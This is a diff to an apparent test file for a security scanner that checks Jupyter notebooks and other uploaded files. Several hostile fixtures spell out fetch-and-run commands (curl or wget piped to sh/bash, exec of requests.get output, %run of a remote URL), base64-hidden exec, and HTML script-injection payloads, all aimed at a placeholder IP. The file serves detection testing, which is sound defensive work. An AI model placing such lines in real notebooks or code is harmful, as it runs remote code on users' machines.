@@ -57,15 +57,51 @@ hostile(
     "pass",
 )
 hostile("python-broken", "remote_code.python_file", {"x.py": b"def (:"}, "incomplete")
+
+
+def notebook(*sources: str, outputs: object = (), text: str = "# Title") -> dict[str, bytes]:
+    cells: list[dict[str, object]] = [{"cell_type": "markdown", "source": [text]}]
+    cells += [
+        {"cell_type": "code", "source": source.splitlines(keepends=True), "outputs": list(outputs)}
+        for source in sources
+    ]
+    return {"x.ipynb": json.dumps({"cells": cells, "nbformat": 4, "metadata": {}}).encode()}
+
+
+RUNS = "notebook.fetch_and_run"
+hostile("notebook-fetch-and-run", RUNS, notebook("!curl http://203.0.113.7 | sh"))
+hostile("notebook-bash-cell", RUNS, notebook("%%bash\nwget -qO- http://203.0.113.7/a | bash\n"))
+hostile("notebook-hidden", RUNS, notebook("import base64\nexec(base64.b64decode('cGFzcw=='))"))
 hostile(
-    "notebook-shell",
-    "remote_code.dangerous_python",
-    {
-        "x.ipynb": json.dumps(
-            {"cells": [{"cell_type": "code", "source": ["!curl http://203.0.113.7 | sh"]}]}
-        ).encode()
-    },
+    "notebook-fetched",
+    RUNS,
+    notebook("import requests\nexec(requests.get('http://203.0.113.7/x').text)"),
 )
+hostile("notebook-run-address", RUNS, notebook("%run https://203.0.113.7/x.py"))
+hostile("notebook-script", "notebook.script", notebook("1", text="<img src=x onerror=alert(1)>"))
+hostile(
+    "notebook-script-in-output",
+    "notebook.script",
+    notebook("1", outputs=[{"data": {"text/html": ["<script>eval(atob('YQ=='))</script>"]}}]),
+)
+hostile(
+    "notebook-reaches",
+    "notebook.reaches_system",
+    notebook("import subprocess\nsubprocess.run(['make'])"),
+    "pass",
+)
+hostile("notebook-broken", "", {"x.ipynb": b'{"cells": 3}'}, "incomplete")
+hostile("notebook-no-python", "", notebook("def (:"), "incomplete")
+benign(
+    "notebook-twin",
+    notebook(
+        "!pip install -q transformers\n%matplotlib inline\nimport torch\n",
+        "files = !ls\nmodel?\nprint(1)",
+        outputs=[{"data": {"text/html": ["<script>Plotly.newPlot('a', [])</script>"]}}],
+    ),
+    rules="notebook.shell",
+)
+benign("text-mz-twin", {"vocab.txt": b"MZ\n#!\nab\n"})
 hostile("native-elf", "remote_code.native_code", {"libx.so": b"\x7fELF" + bytes(60)})
 hostile("native-elf-renamed", "remote_code.native_code", {"weights.bin": b"\x7fELF" + bytes(60)})
 hostile(
